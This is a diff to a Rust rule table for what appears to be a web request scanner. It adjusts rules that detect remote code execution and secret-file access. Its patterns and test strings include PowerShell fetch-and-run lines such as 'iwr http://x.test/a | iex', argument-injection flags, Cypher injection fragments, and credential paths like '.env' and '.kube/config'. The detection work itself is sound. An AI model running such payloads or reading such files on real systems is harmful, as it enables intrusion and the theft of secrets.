@@ -8,7 +8,7 @@ pub(super) const RULES: &[Rule] = &[
         id: "rce-argument",
         category: Category::Rce,
         severity: Severity::Critical,
-        carriers: SHORT,
+        carriers: QUERY,
         any: &[
             "--checkpoint-action=",
             "--upload-pack=",
@@ -58,17 +58,31 @@ pub(super) const RULES: &[Rule] = &[
             "[net.dns]::",
             "[reflection.assembly]::",
             "[system.reflection.assembly]::",
-            "|iex~",
-            "| iex~",
-            ";iex~",
         ],
         with: &[],
         hits: &[
             ";[diagnostics.process]::start('calc')",
             ";[scriptblock]::create('dir').invoke()",
-            ";irm x.test|iex",
         ],
-        misses: &["[file]::", "a|iexplore", "[::1]:80"],
+        misses: &["[file]::", "[::1]:80"],
+    },
+    // A script that is fetched and run.
+    Rule {
+        id: "rce-powershell-fetch",
+        category: Category::Rce,
+        severity: Severity::Critical,
+        carriers: SHORT,
+        any: &["|iex~", "| iex~"],
+        with: &[
+            "~irm ",
+            "~iwr ",
+            "~curl ",
+            "~wget ",
+            "invoke-restmethod",
+            "invoke-webrequest",
+        ],
+        hits: &[";irm x.test|iex", "iwr http://x.test/a | iex"],
+        misses: &["NYSE|IEX", "elixir|iex", "a|iexplore"],
     },
     // The installer of PHP's packages, included as a page.
     Rule {
@@ -88,10 +102,8 @@ pub(super) const RULES: &[Rule] = &[
         severity: Severity::Critical,
         carriers: QUERY,
         any: &[
-            "^.env^",
             "/.env^",
             "^.git/config^",
-            "^.htpasswd^",
             "/.htpasswd^",
             "^config/master.key^",
             "/config/master.key^",
@@ -101,7 +113,7 @@ pub(super) const RULES: &[Rule] = &[
             "/.kube/config^",
         ],
         with: &[],
-        hits: &[".env", "/app/.env", "/run/secrets/db", "/tmp/sess_1"],
+        hits: &["/app/.env", "/run/secrets/db", "/tmp/sess_1"],
         misses: &[
             "my.env",
             "env",
@@ -144,8 +156,8 @@ pub(super) const RULES: &[Rule] = &[
         severity: Severity::Critical,
         carriers: SHORT,
         any: &[
-            "'}) return ",
-            "\"}) return ",
+            "'}) return 1",
+            "\"}) return 1",
             "'}) match (",
             "\"}) match (",
             "'}) with 1 as",
